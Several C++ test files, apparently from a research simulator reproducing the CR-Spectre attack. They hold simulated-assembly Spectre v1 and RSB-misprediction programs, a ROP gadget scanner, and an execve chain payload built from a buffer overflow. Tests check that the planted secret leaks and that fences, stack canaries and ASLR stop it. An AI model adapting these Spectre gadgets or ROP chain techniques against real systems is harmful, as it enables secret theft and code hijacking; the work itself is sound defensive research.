  auto& hier = h.machine().hierarchy();
  EXPECT_TRUE(hier.l1d_resident(probe + 83 * 64))
      << "the secret's probe line must have been filled transiently";

  // Lines adjacent to the secret's line must still be cold.
  int resident = 0;
  for (int b = 0; b < 256; ++b) {
    if (hier.l1d_resident(probe + 64ull * b)) ++resident;
  }
  EXPECT_LE(resident, 3) << "only the leaked line (plus noise) may be warm";

  const auto& pmu = h.machine().pmu();
  EXPECT_GE(pmu.count(Event::kSpecInstructions), 5u);
  EXPECT_GE(pmu.count(Event::kSpecLoads), 2u);
  EXPECT_GE(pmu.count(Event::kBranchMispredicts), 1u);
}

TEST(Speculation, FenceMitigationBlocksLeak) {
  // Same mistrain/flush/OOB driver as kSpectreV1, but the victim carries a
  // fence between the bound load and the branch — the classic lfence /
  // Context-Sensitive Fencing mitigation. The fence forces the bound to
  // resolve before the branch issues, so no wrong-path window opens.
  const std::string source = R"(
_start:
    movi r10, 8
train:
    movi r1, 1
    call victim
    addi r10, r10, -1
    bnez r10, train
    movi r4, array1_size
    clflush [r4]
    movi r11, probe
    movi r12, 256
flush_probe:
    clflush [r11]
    addi r11, r11, 64
    addi r12, r12, -1
    bnez r12, flush_probe
    mfence
    movi r1, secret
    movi r2, array1
    sub r1, r1, r2
    call victim
    movi r1, 0
    call exit_

victim:
    movi r4, array1_size
    load r4, [r4]
    cmpltu r5, r1, r4
    mfence                  ; the mitigation: serialise before branching
    beqz r5, victim_done
    movi r6, array1
    add r6, r6, r1
    loadb r7, [r6]
    shli r7, r7, 6
    movi r8, probe
    add r8, r8, r7
    loadb r9, [r8]
victim_done:
    ret

.data
array1_size:
    .word 8
array1:
    .byte 1, 2, 3, 4, 5, 6, 7, 8
.align 64
secret:
    .byte 83
.align 64
probe:
    .space 16384
)";
  SimHarness h;
  const auto& prog = h.add_program(source, "/bin/nospec");
  ASSERT_EQ(h.run_program("/bin/nospec"), StopReason::kHalted);
  EXPECT_FALSE(
      h.machine().hierarchy().l1d_resident(prog.symbol("probe") + 83 * 64));
}

TEST(Speculation, ArchitecturalStateRollsBack) {
  // The wrong path writes to r9 and to memory; neither write may survive.
  const std::string source = R"(
_start:
    ; train the branch not-taken
    movi r10, 8
train:
    movi r1, 0
    call gadget
    addi r10, r10, -1
    bnez r10, train
    ; flush the flag so the branch resolves late, then trigger mispredict
    movi r4, flag
    clflush [r4]
    mfence
    movi r1, 1
    call gadget
    ; r9 must still be 0; sentinel must still be 5
    movi r4, sentinel
    load r5, [r4]
    add r1, r9, r5
    call exit_

gadget:
    movi r4, flag
    load r4, [r4]
    add r4, r4, r1       ; r4 = flag + x; nonzero only for x=1
    beqz r4, g_done
    ; wrong path during training (never trained taken)... the real taken
    ; path when x=1:
    movi r9, 99
    movi r6, sentinel
    movi r7, 77
    store [r6], r7
g_done:
    ret

.data
flag: .word 0
sentinel: .word 5
)";
  // Careful: with x=1 the branch IS architecturally taken, so the stores do
  // happen. Invert: train taken, then mispredict toward taken while the
  // architectural path is not-taken.
  const std::string source2 = R"(
_start:
    movi r10, 8
train:
    movi r1, 1
    call gadget          ; flag+1 != 0 -> branch not taken...
    addi r10, r10, -1
    bnez r10, train
    movi r4, flag
    clflush [r4]
    mfence
    movi r1, 0
    call gadget          ; flag+0 == 0 -> taken; predicted not-taken
    movi r4, sentinel
    load r5, [r4]
    add r1, r9, r5
    call exit_

gadget:
    movi r9, 0
    movi r4, flag
    load r4, [r4]
    add r4, r4, r1
    bnez r4, g_done      ; trained taken for x=1
    ; x=0 path: architecturally executed ONLY when x=0; during the
    ; mispredicted episode for x=0 the WRONG path is g_done (harmless).
    ; To test rollback we need the wrong path to contain writes; put them
    ; behind the *trained* direction instead:
g_done:
    ret

.data
flag: .word 0
sentinel: .word 5
)";
  (void)source2;
  // Simplest correct construction: train branch so the *predicted* path
  // contains the writes, then make the architectural outcome skip them.
  const std::string source3 = R"(
_start:
    movi r10, 8
train:
    movi r1, 0
    call gadget          ; x=0: branch falls through INTO the writes
    addi r10, r10, -1
    bnez r10, train
    movi r4, guard
    clflush [r4]
    mfence
    movi r1, 1
    call gadget          ; x=1: branch taken (skip), predicted fall-through
    movi r4, sentinel
    load r5, [r4+8]      ; the slot only the x=1 (transient) path targets
    add r1, r9, r5       ; r9 still 0?
    call exit_

gadget:
    movi r9, 0
    movi r4, guard
    load r4, [r4]
    add r4, r4, r1       ; 0 during training, 1 on the final call
    bnez r4, g_skip      ; taken only on the final call
    movi r9, 99          ; trained fall-through path: the wrong path later
    movi r6, sentinel
    shli r7, r1, 3
    add r6, r6, r7       ; slot sentinel[x]
    movi r7, 77
    store [r6], r7
g_skip:
    ret

.data
guard: .word 0
sentinel: .word 13, 5
)";
  (void)source;
  SimHarness h;
  h.add_program(source3, "/bin/rollback");
  ASSERT_EQ(h.run_program("/bin/rollback"), StopReason::kHalted);
  EXPECT_EQ(h.kernel().exit_code(), 5)
      << "speculative register/memory writes must be rolled back";
  EXPECT_GE(h.machine().pmu().count(Event::kSpecInstructions), 1u);
}

TEST(Speculation, WrongPathIsBoundedByWindow) {
  // A wrong path that would run forever (tight loop) must be cut off by
  // max_spec_window. The branch is mispredicted on its very first
  // execution: the PHT starts weakly-not-taken and the guard load is cold,
  // so the CPU speculates into the (never architecturally executed) spin.
  const std::string source = R"(
_start:
    movi r1, 1
    call gadget
    movi r1, 0
    call exit_

gadget:
    movi r4, guard
    load r4, [r4]        ; cold: slow resolution
    add r4, r4, r1       ; = 1
    bnez r4, g_skip      ; actual taken, predicted not-taken
spin:
    addi r9, r9, 1       ; the wrong path spins forever...
    jmp spin
g_skip:
    ret

.data
guard: .word 0
)";
  sim::MachineConfig mcfg;
  mcfg.cpu.max_spec_window = 24;
  SimHarness h({}, mcfg);
  h.add_program(source, "/bin/spin");
  ASSERT_EQ(h.run_program("/bin/spin"), StopReason::kHalted);
  // One episode capped at the 24-instruction window (plus at most a couple
  // of tiny episodes elsewhere).
  EXPECT_GE(h.machine().pmu().count(Event::kSpecInstructions), 16u);
  EXPECT_LE(h.machine().pmu().count(Event::kSpecInstructions), 30u);
}

TEST(Speculation, RsbMispredictExecutesStaleReturnSiteTransiently) {
  // A callee overwrites its own return address (what a ROP payload does).
  // Architecturally control transfers to `hijack_target`; transiently the
  // CPU follows the RSB back to the call site, touching `beacon`.
  const std::string source = R"(
_start:
    call f
after_call:                ; transient beacon site (RSB prediction)
    movi r6, beacon
    loadb r7, [r6]
    jmp never              ; architectural execution never passes here
never:
    movi r1, 60
    call exit_

f:
    ; delay the return-address load by flushing its stack line
    mov r4, sp
    movi r5, hijack_target
    store [r4], r5         ; overwrite the saved return address
    clflush [r4]
    mfence
    ret                    ; RSB says after_call; stack says hijack_target

hijack_target:
    movi r1, 42
    call exit_

.data
.align 64
beacon: .space 64
)";
  SimHarness h;
  const auto& prog = h.add_program(source, "/bin/rsb");
  ASSERT_EQ(h.run_program("/bin/rsb"), StopReason::kHalted);
  EXPECT_EQ(h.kernel().exit_code(), 42) << "architectural hijack must win";
  EXPECT_TRUE(h.machine().hierarchy().l1d_resident(prog.symbol("beacon")))
      << "the stale return site must have executed transiently";
  EXPECT_GE(h.machine().pmu().count(Event::kRsbMispredicts), 1u);
}

TEST(Speculation, SpecWindowZeroDisablesTransientLeak) {
  // With speculation disabled (window 0) the Spectre program must leak
  // nothing — the InvisiSpec-style "no transient side effects" baseline.
  sim::MachineConfig mcfg;
  mcfg.cpu.max_spec_window = 0;
  SimHarness h({}, mcfg);
  const auto& prog = h.add_program(kSpectreV1, "/bin/spectre");
  ASSERT_EQ(h.run_program("/bin/spectre"), StopReason::kHalted);
  EXPECT_FALSE(
      h.machine().hierarchy().l1d_resident(prog.symbol("probe") + 83 * 64));
  EXPECT_EQ(h.machine().pmu().count(Event::kSpecInstructions), 0u);
}

TEST(Speculation, TransientFaultIsSuppressed) {
  // The wrong path dereferences unmapped memory; the program must neither
  // fault nor leak beyond the squash point.
  const std::string source = R"(
_start:
    movi r1, 1
    call gadget
    movi r1, 33
    call exit_

gadget:
    movi r4, guard
    load r4, [r4]          ; cold: slow resolution
    add r4, r4, r1         ; = 1
    bnez r4, g_skip        ; actual taken, predicted not-taken
    movi r6, 0x100
    load r7, [r6]          ; unmapped on the wrong path
    movi r8, beacon
    loadb r9, [r8]         ; must NOT execute (after the squash)
g_skip:
    ret

.data
guard: .word 0
.align 64
beacon: .space 64
)";
  SimHarness h;
  const auto& prog = h.add_program(source, "/bin/sfault");
  ASSERT_EQ(h.run_program("/bin/sfault"), StopReason::kHalted);
  EXPECT_EQ(h.kernel().exit_code(), 33);
  EXPECT_FALSE(h.machine().hierarchy().l1d_resident(prog.symbol("beacon")));
}

}  // namespace
}  // namespace crs
