#include <gtest/gtest.h>

#include "support/error.hpp"

#include <cmath>
#include <map>

#include "harness.hpp"
#include "workloads/workloads.hpp"

namespace crs::workloads {
namespace {

using sim::Event;
using sim::StopReason;

struct RunOutcome {
  std::uint64_t result = 0;
  sim::PmuSnapshot pmu{};
};

RunOutcome run_workload(const std::string& name, const WorkloadOptions& opt,
                        const std::vector<std::string>& args = {"benign"}) {
  sim::Machine machine;
  sim::Kernel kernel(machine);
  kernel.register_binary("/bin/" + name, build_workload(name, opt));
  kernel.start_with_strings("/bin/" + name, args);
  const auto reason = kernel.run(200'000'000);
  EXPECT_EQ(reason, StopReason::kHalted) << name;
  RunOutcome out;
  out.result = machine.memory().read_u64(
      kernel.resolved_symbol("/bin/" + name, "result"));
  out.pmu = machine.pmu().snapshot();
  return out;
}

class AllWorkloads : public ::testing::TestWithParam<std::string> {};

TEST_P(AllWorkloads, RunsToCompletion) {
  WorkloadOptions opt;
  opt.scale = 4;
  const auto out = run_workload(GetParam(), opt);
  EXPECT_GT(out.pmu[static_cast<std::size_t>(Event::kInstructions)], 100u);
}

TEST_P(AllWorkloads, RunsWithoutArguments) {
  sim::Machine machine;
  sim::Kernel kernel(machine);
  WorkloadOptions opt;
  opt.scale = 2;
  kernel.register_binary("/bin/w", build_workload(GetParam(), opt));
  kernel.start_with_strings("/bin/w", {});
  EXPECT_EQ(kernel.run(200'000'000), StopReason::kHalted);
}

TEST_P(AllWorkloads, DeterministicAcrossRuns) {
  WorkloadOptions opt;
  opt.scale = 3;
  const auto a = run_workload(GetParam(), opt);
  const auto b = run_workload(GetParam(), opt);
  EXPECT_EQ(a.result, b.result);
  EXPECT_EQ(a.pmu[static_cast<std::size_t>(Event::kCycles)],
            b.pmu[static_cast<std::size_t>(Event::kCycles)]);
}

TEST_P(AllWorkloads, CanaryVariantRunsCleanWithBenignInput) {
  WorkloadOptions opt;
  opt.scale = 50;
  opt.canary = true;
  const auto out = run_workload(GetParam(), opt);
  EXPECT_GT(out.pmu[static_cast<std::size_t>(Event::kInstructions)], 100u);
}

std::vector<std::string> all_names() {
  std::vector<std::string> names;
  for (const auto& w : host_catalog()) names.push_back(w.name);
  for (const auto& w : benign_pool_catalog()) names.push_back(w.name);
  return names;
}

INSTANTIATE_TEST_SUITE_P(Catalog, AllWorkloads,
                         ::testing::ValuesIn(all_names()));

TEST(Workloads, BasicmathMatchesMirror) {
  WorkloadOptions opt;
  opt.scale = 50;
  EXPECT_EQ(run_workload("basicmath", opt).result,
            mirror::basicmath(opt.scale));
}

TEST(Workloads, BitcountMatchesMirror) {
  WorkloadOptions opt;
  opt.scale = 80;
  EXPECT_EQ(run_workload("bitcount", opt).result, mirror::bitcount(opt.scale));
}

TEST(Workloads, Crc32MatchesMirror) {
  WorkloadOptions opt;
  opt.scale = 30;
  EXPECT_EQ(run_workload("crc32", opt).result, mirror::crc32(opt.scale));
}

TEST(Workloads, QsortMatchesMirror) {
  WorkloadOptions opt;
  opt.scale = 24;
  EXPECT_EQ(run_workload("qsort", opt).result,
            mirror::qsort_checksum(opt.scale));
}

TEST(Workloads, ShaMatchesMirror) {
  WorkloadOptions opt;
  opt.scale = 3;
  EXPECT_EQ(run_workload("sha", opt).result, mirror::sha(opt.scale));
}

TEST(Workloads, ScaleIncreasesWork) {
  WorkloadOptions small;
  small.scale = 2;
  WorkloadOptions big;
  big.scale = 8;
  const auto a = run_workload("basicmath", small);
  const auto b = run_workload("basicmath", big);
  EXPECT_GT(b.pmu[static_cast<std::size_t>(Event::kCycles)],
            a.pmu[static_cast<std::size_t>(Event::kCycles)]);
}

TEST(Workloads, SignaturesAreDistinct) {
  // The HID's whole premise: different applications produce different HPC
  // mixes. Compare miss-rate and branch-rate fingerprints pairwise.
  std::map<std::string, std::array<double, 2>> prints;
  for (const auto& name :
       {"bitcount", "sha", "pointer_chase", "basicmath"}) {
    WorkloadOptions opt;
    opt.scale = 6;
    const auto out = run_workload(name, opt);
    const double instr =
        static_cast<double>(out.pmu[static_cast<std::size_t>(Event::kInstructions)]);
    const double misses = static_cast<double>(
        out.pmu[static_cast<std::size_t>(Event::kL1dMisses)]);
    const double branches = static_cast<double>(
        out.pmu[static_cast<std::size_t>(Event::kBranches)]);
    prints[name] = {misses / instr, branches / instr};
  }
  // pointer_chase must be the miss-heaviest; bitcount the lightest.
  EXPECT_GT(prints["pointer_chase"][0], 4 * prints["bitcount"][0]);
  // Every pair differs noticeably in at least one dimension.
  const auto different = [](const std::array<double, 2>& x,
                            const std::array<double, 2>& y) {
    return std::abs(x[0] - y[0]) > 0.01 || std::abs(x[1] - y[1]) > 0.02;
  };
  for (auto i = prints.begin(); i != prints.end(); ++i) {
    for (auto j = std::next(i); j != prints.end(); ++j) {
      EXPECT_TRUE(different(i->second, j->second))
          << i->first << " vs " << j->first;
    }
  }
}

TEST(Workloads, PoolAppsFillTheFeatureContinuum) {
  // The gap-filling purpose of the newer pool apps: each owns a region of
  // the feature space the HID would otherwise see as empty no-man's land.
  auto fingerprint = [](const std::string& name, std::uint64_t scale) {
    WorkloadOptions opt;
    opt.scale = scale;
    const auto out = run_workload(name, opt);
    const double instr = static_cast<double>(
        out.pmu[static_cast<std::size_t>(Event::kInstructions)]);
    const double cycles = static_cast<double>(
        out.pmu[static_cast<std::size_t>(Event::kCycles)]);
    const double ind = static_cast<double>(
        out.pmu[static_cast<std::size_t>(Event::kIndirectJumps)]);
    const double l2m = static_cast<double>(
        out.pmu[static_cast<std::size_t>(Event::kL2Misses)]);
    struct F {
      double cpi, indirect_per_k, l2m_per_k;
    };
    return F{cycles / instr, 1000.0 * ind / instr, 1000.0 * l2m / instr};
  };
  // listsum: the mid-CPI linked-data profile between compute (~1) and
  // pure pointer chasing (~40).
  const auto ls = fingerprint("listsum", 2000);
  EXPECT_GT(ls.cpi, 4.0);
  EXPECT_LT(ls.cpi, 15.0);
  // hashtable: DRAM-bound but parallel (low CPI, high L2 misses).
  const auto ht = fingerprint("hashtable", 400);
  EXPECT_GT(ht.l2m_per_k, 20.0);
  EXPECT_LT(ht.cpi, 3.0);
  // interp: the only benign app dominated by indirect dispatch.
  const auto in = fingerprint("interp", 200);
  EXPECT_GT(in.indirect_per_k, 30.0);
  // stream: L2-resident streaming (misses L1 a lot, L2 barely).
  const auto st = fingerprint("stream", 200);
  EXPECT_LT(st.l2m_per_k, 10.0);
  EXPECT_LT(st.cpi, 3.0);
}

TEST(Workloads, PlantedSecretIsInImageAndUntouched) {
  WorkloadOptions opt;
  opt.scale = 2;
  opt.secret = "TOP-SECRET-KEY!!";
  sim::Machine machine;
  sim::Kernel kernel(machine);
  kernel.register_binary("/bin/h", build_workload("basicmath", opt));
  kernel.start_with_strings("/bin/h", {"x"});
  EXPECT_EQ(kernel.run(100'000'000), StopReason::kHalted);
  const auto addr = kernel.resolved_symbol("/bin/h", "host_secret");
  const auto bytes = machine.memory().read_bytes(addr, opt.secret.size());
  EXPECT_EQ(std::string(bytes.begin(), bytes.end()), opt.secret);
  // The host never accesses the secret: its cache line stays cold.
  EXPECT_FALSE(machine.hierarchy().l1d_resident(addr));
}

TEST(Workloads, UnknownNameThrows) {
  EXPECT_THROW(generate_workload_source("nonesuch", {}), Error);
  EXPECT_FALSE(is_known_workload("nonesuch"));
  EXPECT_TRUE(is_known_workload("sha"));
}

TEST(Workloads, BitcountHasHighestIpcAsInTableOne) {
  // Paper Table I: bitcount has by far the highest IPC of {math, bitcount,
  // sha}. Our scalar core preserves that headline ordering; the math-vs-sha
  // order flips (no FP unit: "Math" becomes divide/branch-bound here),
  // which EXPERIMENTS.md documents as a known divergence.
  // Scales chosen so each run retires enough instructions (>100k) for a
  // steady-state IPC, not a cold-start artefact.
  auto ipc = [](const std::string& name, std::uint64_t scale) {
    WorkloadOptions opt;
    opt.scale = scale;
    const auto out = run_workload(name, opt);
    EXPECT_GT(out.pmu[static_cast<std::size_t>(Event::kInstructions)],
              100'000u)
        << name;
    return static_cast<double>(
               out.pmu[static_cast<std::size_t>(Event::kInstructions)]) /
           static_cast<double>(
               out.pmu[static_cast<std::size_t>(Event::kCycles)]);
  };
  const double bc = ipc("bitcount", 6000);
  const double math = ipc("basicmath", 2000);
  const double sha = ipc("sha", 60);
  EXPECT_GT(bc, math);
  EXPECT_GT(bc, sha);
}

}  // namespace
}  // namespace crs::workloads
