// ROP pipeline tests: gadget scanning, chain construction, frame recon,
// and the full CR-Spectre injection — overflow → gadget chain → execve →
// in-host Spectre secret recovery → host resumes and finishes its work.
#include <gtest/gtest.h>

#include "support/error.hpp"

#include "attack/spectre.hpp"
#include "rop/chain.hpp"
#include "rop/gadget.hpp"
#include "rop/plan.hpp"
#include "rop/recon.hpp"
#include "workloads/workloads.hpp"

namespace crs::rop {
namespace {

using sim::StopReason;

constexpr const char* kSecret = "ATTACK AT DAWN!!";

workloads::WorkloadOptions host_options(bool canary = false) {
  workloads::WorkloadOptions opt;
  opt.scale = 4;
  opt.canary = canary;
  opt.secret = kSecret;
  return opt;
}

TEST(GadgetScanner, FindsRuntimeLibraryGadgets) {
  const auto prog = workloads::build_workload("basicmath", host_options());
  GadgetScanner scanner;
  const auto gadgets = scanner.scan(prog);
  EXPECT_GT(gadgets.size(), 10u);

  const Gadget* pop0 = find_pop(gadgets, 0);
  const Gadget* pop1 = find_pop(gadgets, 1);
  const Gadget* sys = find_syscall(gadgets);
  ASSERT_NE(pop0, nullptr);
  ASSERT_NE(pop1, nullptr);
  ASSERT_NE(sys, nullptr);
  // The runtime library's restore_rN / syscall_fn tails must be in the
  // catalogue (several other functions also donate equivalent gadgets, so
  // find_* may legitimately return an earlier one).
  auto has_gadget_at = [&](std::uint64_t addr) {
    for (const auto& g : gadgets)
      if (g.address == addr) return true;
    return false;
  };
  EXPECT_TRUE(has_gadget_at(prog.symbol("restore_r0")));
  EXPECT_TRUE(has_gadget_at(prog.symbol("restore_r1")));
  EXPECT_TRUE(has_gadget_at(prog.symbol("syscall_fn")));
  EXPECT_EQ(pop0->instructions.size(), 2u);
  EXPECT_EQ(pop1->pop_register, 1);
  EXPECT_EQ(sys->instructions.front().op, isa::Opcode::kSyscall);
}

TEST(GadgetScanner, GadgetsEndInRetAndAvoidControlFlow) {
  const auto prog = workloads::build_workload("crc32", host_options());
  const auto gadgets = GadgetScanner().scan(prog);
  for (const auto& g : gadgets) {
    ASSERT_FALSE(g.instructions.empty());
    EXPECT_EQ(g.instructions.back().op, isa::Opcode::kRet);
    for (std::size_t i = 0; i + 1 < g.instructions.size(); ++i) {
      EXPECT_FALSE(isa::is_control_flow(g.instructions[i].op))
          << g.describe();
    }
  }
}

TEST(GadgetScanner, RespectsMaxLength) {
  ScanOptions opt;
  opt.max_gadget_length = 2;
  const auto prog = workloads::build_workload("basicmath", host_options());
  const auto gadgets = GadgetScanner(opt).scan(prog);
  for (const auto& g : gadgets) {
    EXPECT_LE(g.instructions.size(), 2u);
  }
}

TEST(GadgetScanner, SkipsNonExecutableSegments) {
  // Hide a fake `pop r0; ret` sequence in .data: it must not be reported.
  const auto pop_ret_prog = workloads::build_workload("bitcount", host_options());
  const auto gadgets = GadgetScanner().scan(pop_ret_prog);
  for (const auto& g : gadgets) {
    bool in_text = false;
    for (const auto& seg : pop_ret_prog.segments) {
      if ((seg.perm & sim::kPermExec) != 0 && g.address >= seg.addr &&
          g.address < seg.addr + seg.bytes.size()) {
        in_text = true;
      }
    }
    EXPECT_TRUE(in_text) << g.describe();
  }
}

TEST(GadgetScanner, DescribeCatalogIsReadable) {
  const auto prog = workloads::build_workload("basicmath", host_options());
  const auto gadgets = GadgetScanner().scan(prog);
  const auto catalog = describe_catalog(gadgets);
  EXPECT_NE(catalog.find("pop r0; ret"), std::string::npos);
  EXPECT_NE(catalog.find("syscall; ret"), std::string::npos);
}

TEST(Recon, MeasuresVulnerableFrame) {
  const auto prog = workloads::build_workload("basicmath", host_options());
  ReconSpec spec;
  spec.path = "/bin/host";
  spec.benign_args = {"host", "hello"};
  const auto frame = recon_vulnerable_frame(prog, spec);
  EXPECT_EQ(frame.filler_length, 104u);  // char buffer[104]
  EXPECT_GT(frame.buffer_address, 0u);
  EXPECT_EQ(frame.return_slot, frame.buffer_address + 104);
  // The saved return address points back into _start.
  EXPECT_GT(frame.resume_address, prog.link_base);
}

TEST(Recon, CanaryFrameIsWider) {
  const auto prog = workloads::build_workload("basicmath", host_options(true));
  ReconSpec spec;
  spec.path = "/bin/host";
  spec.benign_args = {"host", "hello"};
  const auto frame = recon_vulnerable_frame(prog, spec);
  EXPECT_EQ(frame.filler_length, 112u);  // buffer + canary word
}

TEST(ChainBuilder, RequiresAllGadgets) {
  std::vector<Gadget> empty;
  ChainBuilder builder(empty);
  EXPECT_FALSE(builder.can_build_execve());
  ExecveChainSpec spec;
  spec.binary_path = "/bin/x";
  spec.filler_length = 104;
  EXPECT_THROW(builder.build_execve_payload(spec), Error);
}

TEST(ChainBuilder, PayloadLayoutMatchesListingOne) {
  const auto prog = workloads::build_workload("basicmath", host_options());
  const auto gadgets = GadgetScanner().scan(prog);
  ChainBuilder builder(gadgets);
  ASSERT_TRUE(builder.can_build_execve());

  ExecveChainSpec spec;
  spec.binary_path = "/bin/cr_spectre";
  spec.buffer_address = 0xF00000;
  spec.filler_length = 104;
  spec.resume_address = 0x10040;
  const auto payload = builder.build_execve_payload(spec);

  ASSERT_EQ(payload.bytes.size(), 104u + 6 * 8);
  auto word = [&](std::size_t off) {
    std::uint64_t v = 0;
    for (int i = 7; i >= 0; --i) v = (v << 8) | payload.bytes[off + static_cast<std::size_t>(i)];
    return v;
  };
  EXPECT_EQ(word(104), payload.pop_r1_gadget);
  EXPECT_EQ(word(112), spec.buffer_address);  // path pointer
  EXPECT_EQ(word(120), payload.pop_r0_gadget);
  EXPECT_EQ(word(128), static_cast<std::uint64_t>(sim::kSysExecve));
  EXPECT_EQ(word(136), payload.syscall_gadget);
  EXPECT_EQ(word(144), spec.resume_address);
  // Path string embedded NUL-terminated at the front.
  EXPECT_EQ(std::string(reinterpret_cast<const char*>(payload.bytes.data())),
            spec.binary_path);
}

TEST(ChainBuilder, RejectsTinyFiller) {
  const auto prog = workloads::build_workload("basicmath", host_options());
  const auto gadgets = GadgetScanner().scan(prog);
  ChainBuilder builder(gadgets);
  ExecveChainSpec spec;
  spec.binary_path = "/bin/a/very/long/path/that/wont/fit";
  spec.filler_length = 8;
  EXPECT_THROW(builder.build_execve_payload(spec), Error);
}

// ---------------------------------------------------------------------------
// The full CR-Spectre injection.
// ---------------------------------------------------------------------------

struct InjectionResult {
  StopReason reason = StopReason::kHalted;
  std::string output;
  int execve_count = 0;
  std::uint64_t host_result = 0;
  sim::FaultKind fault = sim::FaultKind::kNone;
};

InjectionResult run_injection(const std::string& host_name, bool canary,
                              bool aslr) {
  const auto host = workloads::build_workload(host_name, host_options(canary));

  // -- adversary offline phase: gadgets, frame recon, attack binary --
  ReconSpec rspec;
  rspec.path = "/bin/host";
  const auto plan = plan_injection(host, rspec, "/bin/cr_spectre");
  const auto& payload = plan.payload;

  attack::AttackConfig acfg;
  acfg.target_secret_address = host.symbol("host_secret");
  acfg.secret_length = static_cast<std::uint32_t>(std::string(kSecret).size());
  const auto attack_bin = attack::build_attack_binary(acfg);

  // -- the actual attack run --
  sim::KernelConfig kcfg;
  kcfg.aslr = aslr;
  sim::Machine machine;
  sim::Kernel kernel(machine, kcfg);
  kernel.register_binary("/bin/host", host);
  kernel.register_binary("/bin/cr_spectre", attack_bin);
  const std::vector<std::uint8_t> argv0{'h', 'o', 's', 't'};
  kernel.start("/bin/host",
               std::vector<std::vector<std::uint8_t>>{argv0, payload.bytes});

  InjectionResult out;
  out.reason = kernel.run(500'000'000);
  out.output = kernel.output_string();
  out.execve_count = kernel.execve_count();
  out.fault = machine.cpu().fault().kind;
  if (out.reason == StopReason::kHalted) {
    out.host_result = machine.memory().read_u64(
        kernel.resolved_symbol("/bin/host", "result"));
  }
  return out;
}

TEST(Injection, FullCrSpectreChainRecoversSecretAndResumesHost) {
  const auto r = run_injection("basicmath", /*canary=*/false, /*aslr=*/false);
  ASSERT_EQ(r.reason, StopReason::kHalted);
  EXPECT_EQ(r.execve_count, 1) << "the chain must execve exactly once";
  EXPECT_EQ(r.output, kSecret) << "the injected Spectre must leak the secret";
  // The host resumed behind the syscall gadget and completed its work.
  EXPECT_EQ(r.host_result, workloads::mirror::basicmath(4));
}

TEST(Injection, WorksAcrossHosts) {
  for (const auto* host : {"bitcount", "crc32", "stringsearch"}) {
    const auto r = run_injection(host, false, false);
    EXPECT_EQ(r.reason, StopReason::kHalted) << host;
    EXPECT_EQ(r.output, kSecret) << host;
    EXPECT_EQ(r.execve_count, 1) << host;
  }
}

TEST(Injection, BenignInputLeavesHostUntouched) {
  const auto host = workloads::build_workload("basicmath", host_options());
  sim::Machine machine;
  sim::Kernel kernel(machine);
  kernel.register_binary("/bin/host", host);
  kernel.start_with_strings("/bin/host", {"hello"});
  EXPECT_EQ(kernel.run(200'000'000), StopReason::kHalted);
  EXPECT_EQ(kernel.execve_count(), 0);
  EXPECT_TRUE(kernel.output_string().empty());
}

TEST(Injection, StackCanaryDefenseAbortsTheAttack) {
  const auto r = run_injection("basicmath", /*canary=*/true, /*aslr=*/false);
  EXPECT_EQ(r.reason, StopReason::kFault);
  EXPECT_EQ(r.fault, sim::FaultKind::kStackCanary);
  EXPECT_EQ(r.execve_count, 0);
  EXPECT_NE(r.output, kSecret);
}

TEST(Injection, AslrDefenseDefeatsLinkTimeAddresses) {
  // The payload was built against link-time gadget addresses; under ASLR
  // the image shifts, so the chain must not reach execve.
  const auto r = run_injection("basicmath", /*canary=*/false, /*aslr=*/true);
  EXPECT_EQ(r.execve_count, 0);
  EXPECT_NE(r.output, kSecret);
}

TEST(Injection, RopChainTripsRsbMispredicts) {
  // The overwritten return address disagrees with the RSB — a detectable
  // micro-architectural artefact of ROP injection.
  const auto host = workloads::build_workload("basicmath", host_options());
  ReconSpec rspec;
  rspec.path = "/bin/host";
  const auto plan = plan_injection(host, rspec, "/bin/cr_spectre");
  const auto& payload = plan.payload;
  attack::AttackConfig acfg;
  acfg.target_secret_address = host.symbol("host_secret");
  acfg.secret_length = 4;

  sim::Machine machine;
  sim::Kernel kernel(machine);
  kernel.register_binary("/bin/host", host);
  kernel.register_binary("/bin/cr_spectre", attack::build_attack_binary(acfg));
  const std::vector<std::uint8_t> argv0{'h', 'o', 's', 't'};
  kernel.start("/bin/host",
               std::vector<std::vector<std::uint8_t>>{argv0, payload.bytes});
  ASSERT_EQ(kernel.run(500'000'000), StopReason::kHalted);
  EXPECT_GE(machine.pmu().count(sim::Event::kRsbMispredicts), 1u);
}

}  // namespace
}  // namespace crs::rop
