// Fuzz-regression tier: replay every minimized repro / hand-written seed in
// tests/fuzz_corpus through the full differential oracle, plus determinism
// and minimizer unit coverage for the fuzz subsystem itself.
#include <gtest/gtest.h>

#include <algorithm>
#include <filesystem>
#include <fstream>
#include <sstream>
#include <string>
#include <vector>

#include "casm/assembler.hpp"
#include "casm/runtime.hpp"
#include "fuzz/differ.hpp"
#include "fuzz/generator.hpp"
#include "fuzz/minimize.hpp"
#include "obs/metrics.hpp"
#include "obs/obs.hpp"
#include "sim/kernel.hpp"
#include "support/parallel.hpp"
#include "support/rng.hpp"

#ifndef CRS_FUZZ_CORPUS_DIR
#define CRS_FUZZ_CORPUS_DIR "tests/fuzz_corpus"
#endif

namespace {

using namespace crs;

struct CorpusEntry {
  std::string name;
  std::string source;
  bool smc = false;
  bool rdcycle = false;
};

// Header lines are `; key: value` comments; the assembler ignores them, the
// replayer needs smc (RWX text) and rdcycle (exact-only configs).
CorpusEntry load_corpus_file(const std::filesystem::path& path) {
  std::ifstream in(path);
  EXPECT_TRUE(in) << "cannot open " << path;
  CorpusEntry entry;
  entry.name = path.filename().string();
  std::ostringstream src;
  std::string line;
  while (std::getline(in, line)) {
    if (line.rfind("; smc:", 0) == 0) {
      entry.smc = line.find('1') != std::string::npos;
    } else if (line.rfind("; rdcycle:", 0) == 0) {
      entry.rdcycle = line.find('1') != std::string::npos;
    }
    src << line << '\n';
  }
  entry.source = src.str();
  return entry;
}

std::vector<std::filesystem::path> corpus_files() {
  std::vector<std::filesystem::path> files;
  const std::filesystem::path dir = CRS_FUZZ_CORPUS_DIR;
  if (std::filesystem::exists(dir)) {
    for (const auto& e : std::filesystem::directory_iterator(dir)) {
      if (e.path().extension() == ".casm") files.push_back(e.path());
    }
  }
  std::sort(files.begin(), files.end());
  return files;
}

TEST(FuzzCorpus, HasSeedEntries) {
  // The hand-written seeds must always be present; minimized repros from
  // fuzzing sessions accumulate alongside them.
  EXPECT_GE(corpus_files().size(), 4u);
}

TEST(FuzzCorpus, ReplayAllEntriesCleanly) {
  for (const auto& path : corpus_files()) {
    SCOPED_TRACE(path.filename().string());
    const auto entry = load_corpus_file(path);
    const auto div = fuzz::check_source(entry.source, entry.smc, entry.rdcycle);
    EXPECT_FALSE(div.has_value())
